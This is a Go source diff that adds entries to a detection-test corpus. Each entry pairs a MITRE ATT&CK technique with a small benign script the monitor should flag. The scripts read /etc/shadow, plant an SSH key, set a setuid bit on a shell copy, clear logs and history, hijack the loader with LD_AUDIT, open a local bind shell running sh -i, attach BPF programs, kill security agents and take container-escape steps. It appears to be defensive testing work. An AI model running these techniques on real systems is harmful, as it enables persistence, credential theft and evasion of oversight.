@@ -29,6 +29,13 @@ type Procedure struct {
 	// NetNS runs the script in a new network namespace whose loopback
 	// device also holds $REMOTE (10.213.0.1), an address off 127/8.
 	NetNS bool
+	// Container runs the script in a cgroup named as Docker names a
+	// container's (docker-<64 hex>.scope, made for the run and removed
+	// after it), so the monitor takes it for a process in a container. It
+	// is still the host's namespaces: what it does to them it does to the
+	// host, so a container procedure only makes private mount namespaces
+	// or enters namespaces it is already in.
+	Container bool
 	// Creates are system paths the script may create when they are absent
 	// (an empty /etc/ld.so.preload, say); the runner removes those it finds
 	// created and still empty. Globs are removed whatever their content:
@@ -60,6 +67,11 @@ listen() {
 const NetNSPrelude = `ip link set lo up && ip addr add 10.213.0.1/32 dev lo || exit 1
 `
 
+// ContainerPrelude moves the script into its container-like cgroup $CG
+// (the cgroup2 directory the runner made).
+const ContainerPrelude = `echo $$ > "$CG/cgroup.procs" || exit 1
+`
+
 // Corpus is every procedure.
 var Corpus = []Procedure{
 	// ---- Execution from writable and hidden places (T1059, T1564.001)
@@ -73,16 +85,16 @@ var Corpus = []Procedure{
 		Expect: []string{"tmpexec/exec-from-writable-dir", "rules/exec_from_writable_dir"},
 		Script: `cp /bin/true $S/payload && $S/payload`},
 	{ID: "T1059.004", Name: "sh /tmp/x.sh",
-		Expect: []string{"rules/script_from_writable_dir"},
+		Expect: []string{"rules/script_from_writable_dir", "tmpexec/script-from-writable-dir"},
 		Script: `printf '#!/bin/sh\ntrue\n' > $D/x.sh && sh $D/x.sh`},
 	{ID: "T1059.004", Name: "./x.sh in /dev/shm",
-		Expect: []string{"rules/script_from_writable_dir"},
+		Expect: []string{"rules/script_from_writable_dir", "tmpexec/script-from-writable-dir"},
 		Script: `printf '#!/bin/sh\ntrue\n' > $S/x.sh && chmod +x $S/x.sh && cd $S && ./x.sh`},
 	{ID: "T1059.004", Name: "bash -x /var/tmp/x.sh",
-		Expect: []string{"rules/script_from_writable_dir"},
+		Expect: []string{"rules/script_from_writable_dir", "tmpexec/script-from-writable-dir"},
 		Script: `printf 'true\n' > $V/x.sh && bash -x $V/x.sh 2>/dev/null`},
 	{ID: "T1059.006", Name: "python3 /tmp/x.py",
-		Expect: []string{"rules/script_from_writable_dir"},
+		Expect: []string{"rules/script_from_writable_dir", "tmpexec/script-from-writable-dir"},
 		Script: `printf 'print(1)\n' > $D/x.py && $PY $D/x.py >/dev/null`},
 	{ID: "T1059", Name: "perl /dev/shm/x.pl",
 		Expect: []string{"rules/script_from_writable_dir"},
@@ -111,8 +123,19 @@ fd = os.open(sys.argv[1], os.O_RDONLY)
 os.unlink(sys.argv[1])
 os.execve(fd, ["gone"], {})' $W/gone`},
 	{ID: "T1574.006", Name: "LD_PRELOAD of a library in /tmp",
-		Expect: []string{"rules/library_from_writable_dir"},
+		Expect: []string{"rules/library_from_writable_dir", "rules/loader_env_hijack"},
 		Script: `cp /usr/lib/x86_64-linux-gnu/libdl.so.2 $D/libhook.so && LD_PRELOAD=$D/libhook.so /bin/true`},
+	{ID: "T1574.006", Name: "LD_AUDIT of a library in /dev/shm",
+		Expect: []string{"rules/loader_env_hijack"},
+		Script: `cp /usr/lib/x86_64-linux-gnu/libdl.so.2 $S/libaudit.so && LD_AUDIT=$S/libaudit.so /bin/true 2>/dev/null`},
+	{ID: "T1574.006", Name: "LD_LIBRARY_PATH pointing at /var/tmp",
+		Expect: []string{"rules/loader_env_hijack"},
+		Script: `LD_LIBRARY_PATH=$V /bin/true`},
+	{ID: "T1564.001", Name: "#! script run from a hidden directory in a home",
+		Expect: []string{"tmpexec/script-from-hidden-dir"},
+		Script: `mkdir $H/.x && printf '#!/bin/sh
+true
+' > $H/.x/run && chmod +x $H/.x/run && $H/.x/run`},
 
 	// ---- Masquerading and obfuscation (T1036, T1027, T1140)
 	{ID: "T1036.004", Name: "binary named kworker",
@@ -215,6 +238,10 @@ $PY -c 'import socket, sys; socket.create_connection((sys.argv[1], 3333)).close(
 	{ID: "T1098.004", Name: "SSH key added to authorized_keys",
 		Expect: []string{"rules/ssh_authorized_keys_write"},
 		Script: `echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBulkheadCorpusBulkheadCorpusBulkheadCorpus corpus' >> $H/.ssh/authorized_keys`},
+	{ID: "T1098.004", Name: "authorized_keys replaced by a rename from a program",
+		Expect: []string{"persistence/authorized-keys-write"},
+		Script: `printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBulkheadCorpusBulkheadCorpusBulkheadCorpus corpus\n' > $H/.ssh/k &&
+$PY -c 'import os, sys; os.rename(sys.argv[1], sys.argv[2])' $H/.ssh/k $H/.ssh/authorized_keys`},
 	{ID: "T1098.004", Name: "sshd drop-in written", Creates: []string{"/etc/ssh/sshd_config.d"},
 		Globs:  []string{"/etc/ssh/sshd_config.d/bulkhead-corpus-*"},
 		Expect: []string{"rules/ssh_daemon_config_write"},
@@ -243,6 +270,10 @@ $PY -c 'import socket, sys; socket.create_connection((sys.argv[1], 3333)).close(
 	{ID: "T1554", Name: "binary written to /usr/bin", Globs: []string{"/usr/bin/bulkhead-corpus-*"},
 		Expect: []string{"rules/system_binary_write"},
 		Script: `f=/usr/bin/bulkhead-corpus-$N; cp /bin/true $f; r=$?; rm -f $f; exit $r`},
+	{ID: "T1554", Name: "binary renamed into /usr/bin by a program", Globs: []string{"/usr/bin/bulkhead-corpus-*", "/usr/bin/.bulkhead-corpus-*"},
+		Expect: []string{"persistence/system-binary-write"},
+		Script: `t=/usr/bin/.bulkhead-corpus-$N.new; f=/usr/bin/bulkhead-corpus-$N; cp /bin/true $t &&
+$PY -c 'import os, sys; os.rename(sys.argv[1], sys.argv[2])' $t $f; r=$?; rm -f $f $t; exit $r`},
 	{ID: "T1574", Name: "library written to /usr/lib", Globs: []string{"/usr/lib/bulkhead-corpus-*"},
 		Expect: []string{"rules/system_library_write"},
 		Script: `f=/usr/lib/bulkhead-corpus-$N.so; cp /usr/lib/x86_64-linux-gnu/libdl.so.2 $f; r=$?; rm -f $f; exit $r`},
@@ -271,6 +302,9 @@ usermod -R $D/root -aG adm nobody`},
 	{ID: "T1003.008", Name: "cat /etc/shadow",
 		Expect: []string{"credaccess/password-hash-access", "rules/credential_file_read"},
 		Script: `cat /etc/shadow >/dev/null`},
+	{ID: "T1003.008", Name: "symbolic link made to /etc/shadow",
+		Expect: []string{"credaccess/credential-file-link"},
+		Script: `ln -s /etc/shadow $W/s`},
 	{ID: "T1003.008", Name: "python reads /etc/gshadow",
 		Expect: []string{"credaccess/password-hash-access", "rules/credential_file_read"},
 		Script: `$PY -c 'open("/etc/gshadow").read()'`},
@@ -322,7 +356,7 @@ $PY -c 'import sys; open("/proc/%s/mem" % sys.argv[1], "rb").close()' $p; r=$?; 
 
 	// ---- Privilege escalation, injection, kernel (T1548, T1055, T1014, T1611)
 	{ID: "T1548.001", Name: "a user runs a setuid-root copy of python",
-		Expect: []string{"privesc/setuid-root-exec"},
+		Expect: []string{"privesc/setuid-root-exec", "privesc/setuid-bit-set"},
 		Script: `cp /usr/bin/python3 $V/python3 && chmod 4755 $V/python3 &&
 setpriv --reuid=65534 --regid=65534 --clear-groups $V/python3 -c pass`},
 	{ID: "T1548", Name: "a user's process switches to uid 0 (setuid(0))",
@@ -378,17 +412,52 @@ assert fd >= 0, ctypes.get_errno()'`},
 	{ID: "T1611", Name: "nsenter into pid 1's namespaces (pid 1 of a new pid namespace: itself)",
 		Expect: []string{"rules/namespace_enter_host"},
 		Script: `unshare -pf --mount-proc nsenter -t 1 -m -u -- true`},
+	{ID: "T1611", Name: "nsenter from a container into pid 1's namespaces (setns; pid 1 of a new pid namespace: itself)", Container: true,
+		Expect: []string{"privesc/container-escape", "rules/namespace_enter_host"},
+		Script: `unshare -pf --mount-proc nsenter -t 1 -m -u -- true`},
+	{ID: "T1611", Name: "cgroup filesystem mounted from a container (a release_agent escape's first step)", Container: true,
+		Expect: []string{"privesc/container-escape"},
+		Script: `mkdir $D/cg && unshare -m sh -c "mount -t cgroup2 none $D/cg && umount $D/cg"`},
+	{ID: "T1014", Name: "BPF program attached to a cgroup by an unknown process",
+		Expect: []string{"kernelload/bpf-attach"},
+		Script: `mkdir "$CG2/bulkhead-corpus-$N" && $PY -c '
+import ctypes, os, struct, sys
+libc = ctypes.CDLL(None, use_errno=True)
+insns = ctypes.create_string_buffer(bytes([0xb7, 0, 0, 0, 1, 0, 0, 0, 0x95, 0, 0, 0, 0, 0, 0, 0]))
+lic = ctypes.create_string_buffer(b"GPL")
+attr = ctypes.create_string_buffer(struct.pack("IIQQIIQII16s", 8, 2, ctypes.addressof(insns), ctypes.addressof(lic), 0, 0, 0, 0, 0, b"corpus_skb"), 128)
+prog = libc.syscall(321, 5, attr, 128)
+assert prog >= 0, ctypes.get_errno()
+cg = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)
+attach = ctypes.create_string_buffer(struct.pack("IIII", cg, prog, 0, 0), 128)
+assert libc.syscall(321, 8, attach, 128) == 0, ctypes.get_errno()
+detach = ctypes.create_string_buffer(struct.pack("IIII", cg, prog, 0, 0), 128)
+libc.syscall(321, 9, detach, 128)' "$CG2/bulkhead-corpus-$N"; r=$?; rmdir "$CG2/bulkhead-corpus-$N"; exit $r`},
+	{ID: "T1562.001", Name: "another program's BPF program opened by id",
+		Expect: []string{"kernelload/bpf-object-access"},
+		Script: `$PY -c '
+import ctypes, struct
+libc = ctypes.CDLL(None, use_errno=True)
+attr = ctypes.create_string_buffer(struct.pack("II", 0, 0), 128)
+assert libc.syscall(321, 11, attr, 128) == 0, ctypes.get_errno()
+pid = struct.unpack_from("I", attr.raw, 4)[0]
+get = ctypes.create_string_buffer(struct.pack("I", pid), 128)
+fd = libc.syscall(321, 13, get, 128)
+assert fd >= 0, ctypes.get_errno()
+'`},
+	{ID: "T1014", Name: "kexec_file_load called (with no kernel: refused, nothing staged)",
+		Expect: []string{"kernelload/kexec-load"},
+		Script: `$PY -c 'import ctypes; ctypes.CDLL(None).syscall(320, -1, -1, 0, None, 4)'`},
 
-	// ---- Waiting for capture: each needs an event kind of issue 16.
-	// ---- Commands whose effect is not captured yet: seen by their argv.
+	// ---- Commands: seen by their argv at exec, and by their effect.
 	{ID: "T1070.002", Name: "log file deleted (rm)", Globs: []string{"/var/log/bulkhead-corpus-*"},
-		Expect: []string{"rules/log_clearing_command"},
+		Expect: []string{"rules/log_clearing_command", "rules/log_file_removed"},
 		Script: `f=/var/log/bulkhead-corpus-$N.log; echo entry >> $f && rm $f`},
 	{ID: "T1070.002", Name: "log file emptied with truncate -s 0", Globs: []string{"/var/log/bulkhead-corpus-*"},
-		Expect: []string{"rules/log_clearing_command"},
+		Expect: []string{"rules/log_clearing_command", "rules/log_file_cleared"},
 		Script: `f=/var/log/bulkhead-corpus-$N.log; echo entry >> $f && truncate -s 0 $f; r=$?; rm -f $f; exit $r`},
 	{ID: "T1548.001", Name: "setuid bit set on a copy of a shell (chmod u+s)",
-		Expect: []string{"rules/setuid_bit_command"},
+		Expect: []string{"rules/setuid_bit_command", "privesc/setuid-bit-set"},
 		Script: `cp /bin/dash $W/rootsh && chmod u+s $W/rootsh`},
 	{ID: "T1222.002", Name: "payload in /tmp made executable (chmod +x)",
 		Expect: []string{"rules/executable_dropped_in_writable_dir"},
@@ -397,56 +466,89 @@ assert fd >= 0, ctypes.get_errno()'`},
 		Expect: []string{"rules/timestomp_command"},
 		Script: `printf x > $W/f && touch -d '2001-01-01' $W/f`},
 	{ID: "T1543.002", Name: "systemd unit moved into place (mv)", Globs: []string{"/etc/systemd/system/bulkhead-corpus-*"},
-		Expect: []string{"rules/persistence_file_moved"},
+		Expect: []string{"rules/persistence_file_moved", "persistence/systemd-unit-write"},
 		Script: `printf '# bulkhead corpus\n' > $D/u.service && mv $D/u.service /etc/systemd/system/bulkhead-corpus-$N.service; r=$?; rm -f /etc/systemd/system/bulkhead-corpus-$N.service; exit $r`},
 	{ID: "T1070.003", Name: "history linked to /dev/null (ln -sf)",
-		Expect: []string{"rules/history_disabled_command"},
+		Expect: []string{"rules/history_disabled_command", "rules/shell_history_removed"},
 		Script: `ln -sf /dev/null $H/.bash_history`},
 	{ID: "T1070.003", Name: "history turned off in a shell (unset HISTFILE; history -c)",
 		Expect: []string{"rules/history_disabled_command"},
 		Script: `bash -c 'unset HISTFILE; history -c'`},
 
-	// ---- Waiting for capture: each needs an event kind of issue 16.
-	{ID: "T1070.004", Name: "dropped payload deleted by a program (os.remove)", Needs: "unlink",
-		Script: `cp /bin/true $W/payload && $PY -c 'import os, sys; os.remove(sys.argv[1])' $W/payload`},
-	{ID: "T1070.002", Name: "log file deleted by a program (os.remove)", Needs: "unlink", Globs: []string{"/var/log/bulkhead-corpus-*"},
+	// ---- The same effects from a program's own syscalls (issue 16's kinds).
+	{ID: "T1070.004", Name: "running payload deletes its own binary (os.remove)",
+		Expect: []string{"tmpexec/self-deleting-binary"},
+		Script: `cp /usr/bin/python3 $W/payload && $W/payload -c 'import os, sys; os.remove(sys.argv[1])' $W/payload`},
+	{ID: "T1070.002", Name: "log file deleted by a program (os.remove)", Globs: []string{"/var/log/bulkhead-corpus-*"},
+		Expect: []string{"rules/log_file_removed"},
 		Script: `f=/var/log/bulkhead-corpus-$N.log; echo entry >> $f && $PY -c 'import os, sys; os.remove(sys.argv[1])' $f`},
-	{ID: "T1070.002", Name: "log file emptied by ftruncate from a program", Needs: "truncate", Globs: []string{"/var/log/bulkhead-corpus-*"},
-		Script: `f=/var/log/bulkhead-corpus-$N.log; echo entry >> $f && $PY -c 'import os, sys; os.truncate(sys.argv[1], 0); os.remove(sys.argv[1])' $f`},
-	{ID: "T1548.001", Name: "setuid bit set by a program (os.chmod 0o4755)", Needs: "chmod (setuid bit)",
+	{ID: "T1070.002", Name: "log file emptied by truncate(2) from a program", Globs: []string{"/var/log/bulkhead-corpus-*"},
+		Expect: []string{"rules/log_file_cleared"},
+		Script: `f=/var/log/bulkhead-corpus-$N.log; echo entry >> $f && $PY -c 'import os, sys; os.truncate(sys.argv[1], 0)' $f; r=$?; rm -f $f; exit $r`},
+	{ID: "T1548.001", Name: "setuid bit set by a program (os.chmod 0o4755)",
+		Expect: []string{"privesc/setuid-bit-set"},
 		Script: `cp /bin/dash $W/rootsh && $PY -c 'import os, sys; os.chmod(sys.argv[1], 0o4755)' $W/rootsh`},
 	{ID: "T1070.006", Name: "file times set by a program (os.utime)", Needs: "utimensat (not in issue 16's list)",
 		Script: `printf x > $W/f && $PY -c 'import os, sys; os.utime(sys.argv[1], (978307200, 978307200))' $W/f`},
-	{ID: "T1543.002", Name: "systemd unit renamed into place by a program (os.rename)", Needs: "rename",
+	{ID: "T1543.002", Name: "systemd unit renamed into place by a program (os.rename)",
 		Globs:  []string{"/etc/systemd/system/bulkhead-corpus-*", "/etc/bulkhead-corpus-*"},
+		Expect: []string{"persistence/systemd-unit-write"},
 		Script: `f=/etc/systemd/system/bulkhead-corpus-$N.service; t=/etc/bulkhead-corpus-$N.tmp; printf '# bulkhead corpus\n' > $t && $PY -c 'import os, sys; os.rename(sys.argv[1], sys.argv[2])' $t $f; r=$?; rm -f $f $t; exit $r`},
-	{ID: "T1070.003", Name: "history replaced by a symlink from a program (os.symlink)", Needs: "symlink",
+	{ID: "T1070.003", Name: "history replaced by a symlink from a program (os.symlink)",
+		Expect: []string{"rules/shell_history_removed"},
 		Script: `$PY -c 'import os, sys; os.symlink("/dev/null", sys.argv[1])' $H/.zsh_history`},
-	{ID: "T1070.003", Name: "shell started without history (HISTFILE=/dev/null)", Needs: "exec environment",
+	{ID: "T1070.003", Name: "history deleted by a program (os.remove)",
+		Expect: []string{"rules/shell_history_removed"},
+		Script: `$PY -c 'import os, sys; os.remove(sys.argv[1])' $H/.bash_history`},
+	{ID: "T1070.003", Name: "shell started without history (HISTFILE=/dev/null)",
+		Expect: []string{"rules/history_disabled_env"},
 		Script: `HISTFILE=/dev/null bash -c true`},
-	{ID: "T1090", Name: "proxy injected into a program's environment", Needs: "exec environment",
+	{ID: "T1070.003", Name: "shell started with HISTSIZE=0",
+		Expect: []string{"rules/history_disabled_env"},
+		Script: `HISTSIZE=0 bash -c true`},
+	{ID: "T1090", Name: "proxy injected into a program's environment",
+		Expect: []string{"rules/proxy_env_injected"},
 		Script: `https_proxy=http://10.213.0.1:3128 /bin/true`},
-	{ID: "T1622", Name: "anti-debugging with PTRACE_TRACEME", Needs: "ptrace TRACEME",
+	{ID: "T1622", Name: "anti-debugging with PTRACE_TRACEME",
+		Expect: []string{"ptrace/ptrace-traceme"},
 		Script: `$PY -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'`},
-	{ID: "T1036", Name: "process renamed with prctl(PR_SET_NAME)", Needs: "prctl",
+	{ID: "T1036.004", Name: "process renamed to a kernel thread's name with prctl(PR_SET_NAME)",
+		Expect: []string{"rules/masquerading_rename"},
 		Script: `$PY -c 'import ctypes; ctypes.CDLL(None).prctl(15, b"kworker/0:1", 0, 0, 0)'`},
-	{ID: "T1611", Name: "tmpfs mounted in a new mount namespace (unshare -m + mount)", Needs: "mount, unshare",
+	{ID: "T1036.004", Name: "process renamed to sshd with prctl(PR_SET_NAME)",
+		Expect: []string{"rules/masquerading_rename"},
+		Script: `$PY -c 'import ctypes; ctypes.CDLL(None).prctl(15, b"sshd", 0, 0, 0)'`},
+	{ID: "T1611", Name: "tmpfs mounted from a container in a new mount namespace (unshare -m + mount)", Container: true,
+		Expect: []string{"privesc/container-escape"},
 		Script: `mkdir $D/m && unshare -m sh -c "mount -t tmpfs none $D/m && umount $D/m"`},
-	{ID: "T1059.004", Name: "bind shell listening for a connection", Needs: "bind, listen, accept", NetNS: true,
+	{ID: "T1059.004", Name: "bind shell: a connection accepted, then sh -i", NetNS: true,
+		Expect: []string{"outbound/bind-shell"},
 		Script: `$PY -c '
-import os, socket, subprocess
+import os, socket, subprocess, sys
 s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
 s.bind(("0.0.0.0", 4445)); s.listen(1); s.settimeout(10)
 if os.fork() == 0:
-    c = socket.create_connection(("127.0.0.1", 4445)); c.sendall(b"exit\n"); c.recv(10); os._exit(0)
+    c = socket.create_connection((sys.argv[1], 4445)); c.sendall(b"exit\n"); c.recv(10); os._exit(0)
 c, _ = s.accept()
 subprocess.call(["/bin/sh", "-i"], stdin=c, stdout=c, stderr=c)
-os.wait()'`},
-	{ID: "T1040", Name: "packet socket opened for sniffing", Needs: "socket (raw, packet)", NetNS: true,
+os.wait()' $REMOTE`},
+	{ID: "T1059", Name: "netcat-like listener on every address (python copied as nc)", NetNS: true,
+		Expect: []string{"outbound/netcat-listener"},
+		Script: `cp /usr/bin/python3 $W/nc && $W/nc -c 'import socket; s = socket.socket(); s.bind(("0.0.0.0", 4446)); s.listen(1); s.close()'`},
+	{ID: "T1040", Name: "packet socket opened for sniffing", NetNS: true,
+		Expect: []string{"rules/raw_socket_opened"},
 		Script: `$PY -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()'`},
-	{ID: "T1562.001", Name: "monitoring agent killed by signal", Needs: "kill",
+	{ID: "T1040", Name: "raw IP socket opened", NetNS: true,
+		Expect: []string{"rules/raw_socket_opened"},
+		Script: `$PY -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP).close()'`},
+	{ID: "T1562.001", Name: "monitoring agent killed by signal",
+		Expect: []string{"rules/security_agent_killed"},
 		Script: `cp /bin/sleep $W/falco && $W/falco 5 & sleep 0.2; kill -TERM $! ; wait; true`},
-	{ID: "T1068", Name: "userfaultfd from an unprivileged user", Needs: "userfaultfd",
+	{ID: "T1562.001", Name: "audit daemon stopped with SIGSTOP",
+		Expect: []string{"rules/security_agent_killed"},
+		Script: `cp /bin/sleep $W/auditd && $W/auditd 5 & sleep 0.2; kill -STOP $!; kill -KILL $!; wait; true`},
+	{ID: "T1068", Name: "userfaultfd from an unprivileged user",
+		Expect: []string{"privesc/userfaultfd-unprivileged"},
 		Script: `setpriv --reuid=65534 --regid=65534 --clear-groups $PY -c 'import ctypes; ctypes.CDLL(None).syscall(323, 0)'`},
 }
 
